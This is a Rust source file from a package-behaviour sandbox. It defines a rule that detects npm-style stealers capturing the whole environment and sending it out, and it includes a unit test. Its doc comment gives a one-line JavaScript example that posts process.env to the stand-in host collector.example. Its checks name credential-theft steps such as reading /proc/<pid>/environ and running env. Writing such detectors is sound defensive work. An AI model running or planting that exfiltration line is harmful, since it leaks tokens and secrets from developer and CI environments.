use ossprey_model::dynamic::PhaseReport;
use ossprey_model::{Category, Finding, Severity};
use serde_json::json;

use super::events::{
    PackageProcesses, behaviour_finding, egress, file_event, ok_execs, phases, process_event,
    program,
};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// Variables every environment has: a dump of the environment names several.
const COMMON_ENV: &[&str] = &[
    "PATH", "HOME", "USER", "SHELL", "PWD", "LANG", "TERM", "LOGNAME", "HOSTNAME",
];

/// Fewest distinct variable names in one payload that make it an environment dump.
const DUMP_NAMES: usize = 4;

/// ## What it does
/// Reports the capture of the whole environment by the package's processes followed
/// by network traffic in the same phase, in the shapes the sandbox can see:
///
/// - a process reads `/proc/<pid>/environ`, or runs `env`/`printenv` with no
///   argument, and the phase then reaches the network (high; low without network);
/// - captured traffic (an HTTP body or path, or the first bytes of a stream or
///   datagram) carries an environment dump: four or more of the usual variable
///   names (`PATH`, `HOME`, `USER`, …, and the names of the planted secret
///   variables) as `NAME=` or `"NAME":` (high).
///
/// An in-process read of the environment (`os.environ`, `process.env`) makes no
/// system call, so the tracer cannot see it; what leaves can be seen, and a
/// planted secret variable that leaves is `DYN-HONEYTOKEN-EGRESS`.
///
/// ## Why is this bad?
/// CI and developer environments hold tokens (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`,
/// `GITHUB_TOKEN`). Sending the whole environment home is the commonest npm stealer.
///
/// ## Example
/// ```javascript
/// https.request({ host: "collector.example", method: "POST" }).end(JSON.stringify(process.env));
/// ```
#[derive(Debug)]
pub struct EnvCaptureNetwork;

behaviour_rule!(
    EnvCaptureNetwork,
    "DYN-ENV-CAPTURE-NETWORK",
    Category::CREDENTIAL_ACCESS,
    "the whole environment captured (environ read, `env`, or a dump in traffic) and sent out"
);

/// How many distinct environment variable names `text` holds as `NAME=` or `"NAME":`.
fn env_names_in(text: &str, extra: &[&str]) -> usize {
    COMMON_ENV
        .iter()
        .chain(extra.iter())
        .filter(|name| {
            text.contains(&format!("{name}="))
                || text.contains(&format!("\"{name}\":"))
                || text.contains(&format!("'{name}':"))
        })
        .count()
}

/// The payloads of a phase's traffic, with a summary of where each went.
fn payloads(phase: &PhaseReport) -> Vec<(String, &str)> {
    let mut out = Vec::new();
    for c in &phase.network.connections {
        let host = c.hostname.as_deref().unwrap_or(&c.address).to_owned();
        for r in &c.http {
            if let Some(body) = &r.body_text {
                out.push((
                    format!("{} http://{host}{}", r.method, r.path),
                    body.as_str(),
                ));
            }
            out.push((format!("{} http://{host}", r.method), r.path.as_str()));
        }
        if c.http.is_empty()
            && let Some(t) = &c.bytes_prefix_text
        {
            out.push((format!("tcp {host}:{}", c.port), t.as_str()));
        }
    }
    for d in &phase.network.datagrams {
        if let Some(t) = &d.bytes_prefix_text {
            let host = d.hostname.as_deref().unwrap_or(&d.address);
            out.push((format!("udp {host}:{}", d.port), t.as_str()));
        }
    }
    out
}

impl BehaviourRule for EnvCaptureNetwork {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        let planted: Vec<&str> = input
            .dynamic
            .honeytokens
            .planted
            .iter()
            .filter_map(|t| t.env.as_deref())
            .collect();
        for (key, phase) in phases(input.dynamic) {
            let own = PackageProcesses::of(key, phase);
            let network = !egress(phase, input.ecosystem()).is_empty();
            let severity = if network {
                Severity::High
            } else {
                Severity::Low
            };
            let then = if network {
                ", then reached the network"
            } else {
                " (no network traffic followed)"
            };
            for f in &phase.files {
                let is_environ = f.path.starts_with("/proc/") && f.path.ends_with("/environ");
                if is_environ && f.read && f.succeeded && own.touched(f) {
                    out.push(behaviour_finding(
                        self,
                        severity,
                        format!("{key} phase read a process environment ({}){then}", f.path),
                        key,
                        "file",
                        file_event(f),
                        &format!("read {}", f.path),
                    ));
                }
            }
            for p in own.processes(phase) {
                if let Some(e) = ok_execs(p)
                    .find(|e| matches!(program(e), "env" | "printenv") && e.argv.len() == 1)
                {
                    out.push(behaviour_finding(
                        self,
                        severity,
                        format!(
                            "{key} phase dumped the environment with `{}`{then}",
                            program(e)
                        ),
                        key,
                        "process",
                        process_event(p),
                        &format!("pid {} ran {}", p.pid, e.argv.join(" ")),
                    ));
                }
            }
            for (to, text) in payloads(phase) {
                let n = env_names_in(text, &planted);
                if n >= DUMP_NAMES {
                    out.push(behaviour_finding(
                        self,
                        Severity::High,
                        format!(
                            "{key} phase sent an environment dump ({n} variable names) in {to}"
                        ),
                        key,
                        "payload",
                        json!({ "destination": to, "variables": n,
                                "text": ossprey_static::facts::snippet(text, 300) }),
                        &format!("{to}: {}", ossprey_static::facts::snippet(text, 120)),
                    ));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dumps_are_counted_by_distinct_names() {
        assert_eq!(
            env_names_in(
                r#"{"PATH":"/usr/bin","HOME":"/home/a","USER":"a","NPM_TOKEN":"x"}"#,
                &["NPM_TOKEN"]
            ),
            4
        );
        assert_eq!(env_names_in("PATH=/bin\nPATH=/usr/bin", &[]), 1);
    }
}
